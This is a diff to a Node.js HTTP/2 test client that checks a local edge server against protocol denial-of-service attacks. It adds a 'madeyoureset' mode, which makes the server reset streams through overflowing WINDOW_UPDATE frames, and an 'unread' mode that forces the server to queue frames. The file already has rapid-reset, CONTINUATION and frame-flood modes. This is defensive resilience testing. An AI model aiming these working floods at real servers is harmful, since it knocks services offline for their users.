@@ -6,6 +6,12 @@
 //   node h2_client.mjs reset <port> <path>      HEADERS then RST_STREAM as fast as it can, until GOAWAY
 //   node h2_client.mjs attack <port> <path> <s>  the reset attack again on a new connection each time
 //                                               one ends, for s seconds (bench/h2.sh)
+//   node h2_client.mjs madeyoureset <port> <path>  HEADERS then a WINDOW_UPDATE that overflows the stream's window (the
+//                                               edge resets the stream itself) as fast as it can, until GOAWAY
+//   node h2_client.mjs unread <port> <path>      never reads, never acknowledges the edge's SETTINGS, its window shut:
+//                                               HEADERS for ever more streams (each past the 100th refused with a
+//                                               RST_STREAM the edge must queue), 10 s at most; prints whether the
+//                                               edge closed the connection and when
 //   node h2_client.mjs continuation <port> <path>  one header block continued for ever, until the connection ends
 //   node h2_client.mjs flood <port> <path> <kind>  PING, SETTINGS or PRIORITY frames (kind ping, settings or
 //                                               priority) as fast as it can, reading what comes back, until GOAWAY
@@ -127,7 +133,7 @@ async function requests() {
 
 // Raw HTTP/2 over TLS (or cleartext), for the attacks (Node's client would not send them): the
 // preface, and every frame read back parsed far enough to see a GOAWAY's error code.
-async function raw(settings = Buffer.alloc(0)) {
+async function raw(settings = Buffer.alloc(0), acknowledge = true) {
   let socket;
   if (cleartext) {
     socket = net.connect({ host: '127.0.0.1', port: Number(port), noDelay: true });
@@ -154,7 +160,7 @@ async function raw(settings = Buffer.alloc(0)) {
       if (received.length < 9 + length) break;
       if (received[3] === 7) connection.goaway = received.readUInt32BE(9 + 4);
       if (connection.onFrame) connection.onFrame(received[3], received.readUInt32BE(5) & 0x7fffffff, length, received.subarray(9, 9 + length));
-      if (received[3] === 4 && !(received[4] & 1)) socket.write(frame(4, 1, 0, Buffer.alloc(0))); // SETTINGS ack
+      if (acknowledge && received[3] === 4 && !(received[4] & 1)) socket.write(frame(4, 1, 0, Buffer.alloc(0))); // SETTINGS ack
       received = received.subarray(9 + length);
     }
   });
@@ -213,6 +219,52 @@ async function reset(until = Date.now() + 5000, linger = 200) {
   await new Promise((r) => setTimeout(r, linger));
   c.socket.destroy();
   return { sent, goaway: c.goaway };
+}
+
+// Resets the edge makes itself: each stream's request, then a WINDOW_UPDATE past the largest
+// window (a flow-control error nghttp2 answers with RST_STREAM), in batches, until a GOAWAY.
+async function madeyoureset() {
+  const c = await raw();
+  const block = request_block();
+  const overflow = Buffer.alloc(4);
+  overflow.writeUInt32BE(0x7fffffff);
+  let sent = 0;
+  let id = 1;
+  const deadline = Date.now() + 5000;
+  while (c.goaway === null && !c.closed && Date.now() < deadline && sent < 100000) {
+    const batch = [];
+    for (let i = 0; i < 50; ++i, id += 2, ++sent) batch.push(c.frame(1, 0x5, id, block), c.frame(8, 0, id, overflow));
+    c.socket.write(Buffer.concat(batch));
+    await new Promise((r) => setImmediate(r));
+  }
+  await new Promise((r) => setTimeout(r, 200));
+  c.socket.destroy();
+  return { sent, goaway: c.goaway };
+}
+
+// A client that makes the edge queue frames it never reads: SETTINGS_INITIAL_WINDOW_SIZE 0, the
+// edge's SETTINGS never acknowledged (so nghttp2 refuses each stream past the 100th with a
+// RST_STREAM of its own), and the socket never read.
+async function unread() {
+  const windowShut = Buffer.alloc(6);
+  windowShut.writeUInt16BE(4, 0); // SETTINGS_INITIAL_WINDOW_SIZE
+  windowShut.writeUInt32BE(0, 2);
+  const c = await raw(windowShut, false);
+  c.socket.pause();
+  const block = request_block();
+  const started = Date.now();
+  let sent = 0;
+  let id = 1;
+  while (!c.closed && Date.now() - started < 10000) {
+    const batch = [];
+    for (let i = 0; i < 1000; ++i, id += 2, ++sent) batch.push(c.frame(1, 0x5, id, block));
+    if (!c.socket.write(Buffer.concat(batch))) await Promise.race([new Promise((r) => c.socket.once('drain', r)), new Promise((r) => setTimeout(r, 100))]);
+    await new Promise((r) => setImmediate(r));
+    if (id > 0x7fff0000) break;
+  }
+  const closedAfterMs = c.closed ? Date.now() - started : null;
+  c.socket.destroy();
+  return { sent, closed: closedAfterMs !== null, ms: closedAfterMs };
 }
 
 // The reset attack for `seconds`, reconnecting whenever the edge ends a connection.
@@ -462,7 +514,7 @@ async function push() {
   await new Promise(() => {}); // until killed
 }
 
-const run = { requests, reset: () => reset(), attack, continuation, flood, streams, quiet, stall, drain, ws, hold, trickle, push }[mode];
+const run = { requests, reset: () => reset(), madeyoureset, unread, attack, continuation, flood, streams, quiet, stall, drain, ws, hold, trickle, push }[mode];
 // Exits once stdout has taken the whole line (a pipe takes it asynchronously).
 run().then((out) => process.stdout.write(JSON.stringify(out) + '\n', () => process.exit(0)),
   (e) => process.stdout.write(JSON.stringify({ failed: String(e) }) + '\n', () => process.exit(1)));
